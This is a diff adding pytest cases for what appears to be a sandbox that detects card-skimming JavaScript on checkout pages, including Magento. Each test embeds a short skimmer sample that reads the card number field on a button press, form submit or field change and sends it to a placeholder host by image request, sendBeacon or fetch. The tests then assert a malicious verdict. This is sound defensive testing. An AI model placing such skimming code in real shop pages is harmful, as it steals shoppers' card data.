@@ -167,3 +167,47 @@ async def test_a_kit_hooked_on_a_checkout_step_runs_when_the_shopper_goes_throug
     assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
     (found,) = exfiltration(result)
     assert found.script == "s1"
+
+
+async def test_a_created_pay_button_gets_the_press_that_lands_inside_the_real_one(
+        detonator: Detonator) -> None:
+    """Magento's pay button holds a `<span>`: the shopper's press lands there, and is passed
+    to the button the sandbox created for a kit's own name for it (`#payButton`, camelCase:
+    the words of a name written without spaces count)."""
+    code = """var btn = document.getElementById('payButton');
+    if (btn) btn.addEventListener('mouseup', function () {
+      var n = document.getElementsByName('payment[cc_number]')[0];
+      if (n && n.value) new Image().src = 'https://btn-metrics.test/p?d=' + btoa(n.value);
+    });"""
+    result = await detonator.detonate("btn.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    assert any("#payButton" in s for p in result.pages for s in p.synthesised)
+
+
+@pytest.mark.parametrize("selector", ["form#pay", "form.payment-form", "form[name=checkout]"])
+async def test_a_payment_form_asked_for_by_another_name_is_the_card_form(
+        detonator: Detonator, selector: str) -> None:
+    """A kit written for another shop names its payment form by that shop's id, class or
+    name: the page's card form answers (not a stand-in button, not nothing)."""
+    code = f"""document.addEventListener('DOMContentLoaded', function () {{
+      var f = document.querySelector('{selector}');
+      if (!f || f.tagName !== 'FORM') return;
+      f.addEventListener('submit', function () {{
+        var n = f.querySelector('[autocomplete="cc-number"]');
+        navigator.sendBeacon('https://form-metrics.test/s', JSON.stringify({{n: n && n.value}}));
+      }});
+    }});"""
+    result = await detonator.detonate("form.js", code, templates=["custom-autocomplete"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+
+
+async def test_a_created_card_field_the_shopper_types_into_holds_the_card_once(
+        detonator: Detonator) -> None:
+    """Created card fields hold the canary already (kits read them at once); where the
+    shopper types into one too, it replaces the value rather than doubling it."""
+    code = """var n = document.getElementById('card_number');
+    if (n) n.addEventListener('change', function () {
+      fetch('https://once-metrics.test/c?n=' + encodeURIComponent(n.value));
+    });"""
+    result = await detonator.detonate("once.js", code, templates=["hosted-fields"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
